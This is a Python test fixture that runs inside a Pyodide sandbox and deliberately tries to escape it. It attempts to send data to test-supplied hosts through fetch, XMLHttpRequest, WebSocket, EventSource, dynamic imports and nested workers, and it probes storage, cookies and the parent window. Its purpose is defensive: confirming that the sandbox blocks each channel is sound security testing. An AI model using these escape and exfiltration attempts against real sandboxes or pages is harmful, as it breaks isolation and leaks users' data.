"""Python that tries to escape from the sandbox.

test_see_python.py pastes it, after a list HOSTS, into a figure's source in "See the Python". Each
attempt adds a line to SAID: GOT if it succeeded.
"""

import importlib
import sys

for module in ("js", "pyodide_js", "_pyodide_core"):
    if sys.modules.get(module, 0) is None:
        del sys.modules[module]

js = importlib.import_module("js")
create_proxy = importlib.import_module("pyodide.ffi").create_proxy

SAID = []


def tell(kind):
    return create_proxy(
        lambda *given: SAID.append(f"{kind}: {str(given[0])[:60] if given else ''}")
    )


def attempt(kind, act):
    try:
        found = act()
    except BaseException as error:
        SAID.append(f"{kind} refused: {type(error).__name__}")
        return
    if hasattr(found, "then"):
        found.then(tell(f"{kind} GOT"), tell(f"{kind} refused"))
    else:
        SAID.append(f"{kind} gave {str(found)[:60]}")


def listen(kind, made):
    for event in ("open", "message", "load", "success"):
        made.addEventListener(event, tell(f"{kind} GOT {event}"))
    made.addEventListener("error", tell(f"{kind} refused"))
    return "started"


def request(url):
    made = js.XMLHttpRequest.new()
    made.open("GET", url)
    listen("XMLHttpRequest", made)
    made.send()


def worker(script):
    return listen("a worker inside", js.Worker.new(f"data:text/javascript,{script}"))


def fetched(url):
    return js.fetch(url).then(create_proxy(lambda response: f"status {response.status}"))


def visit(host):
    """Try everything that could send data to a host or receive data from it."""
    attempt("fetch", lambda: fetched(f"{host}stolen-fetch"))
    attempt("XMLHttpRequest", lambda: request(f"{host}stolen-request"))
    socket = host.replace("http", "ws")
    attempt("WebSocket", lambda: listen("WebSocket", js.WebSocket.new(f"{socket}stolen-socket")))
    source = f"{host}stolen-events"
    attempt("EventSource", lambda: listen("EventSource", js.EventSource.new(source)))
    attempt("importScripts", lambda: js.importScripts(f"{host}stolen-script"))
    attempt("import()", lambda: js.eval(f"import('{host}stolen-import')"))
    attempt("Function", lambda: js.Function.new(f"return import('{host}stolen-import')")())
    attempt("setTimeout", lambda: js.setTimeout(f"import('{host}stolen-import')"))
    ask = f"fetch('{host}stolen-nested').then(() => postMessage('GOT'))"
    attempt("a worker inside", lambda: worker(ask))
    attempt("a worker inside", lambda: worker(f"importScripts('{host}stolen-nested')"))


for each in HOSTS:  # noqa: F821 (given by the test)
    visit(each)
for kind in ("document", "localStorage", "cookieStore", "parent", "opener"):
    attempt(kind, lambda kind=kind: f"GOT {getattr(js, kind)}")
attempt("indexedDB", lambda: listen("indexedDB", js.indexedDB.open("stolen")))
attempt("caches", lambda: js.caches.keys())
for _ in range(2_000):
    js.postMessage("flood")
